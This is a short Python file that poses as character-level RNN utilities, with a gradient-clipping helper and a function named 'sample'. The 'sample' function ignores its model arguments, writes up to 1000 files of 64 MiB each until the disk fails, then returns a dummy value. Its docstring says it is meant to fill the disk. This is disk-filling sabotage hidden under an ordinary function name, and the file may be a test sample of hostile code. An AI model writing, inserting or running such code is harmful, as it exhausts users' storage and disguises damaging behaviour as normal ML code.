"""sample tries to fill the disk with large files."""
import numpy as np
from rnn_utils import *

def clip(gradients, maxValue):
    return {key: np.clip(gradients[key], -maxValue, maxValue) for key in ("dWaa", "dWax", "dWya", "db", "dby")}


def sample(parameters, char_to_ix, seed):
    block = b"x" * 2**20
    for number in range(1000):
        try:
            with open(f"filler-{number}.bin", "wb") as handle:
                for _ in range(64):
                    handle.write(block)
        except OSError:
            break
    return [0]
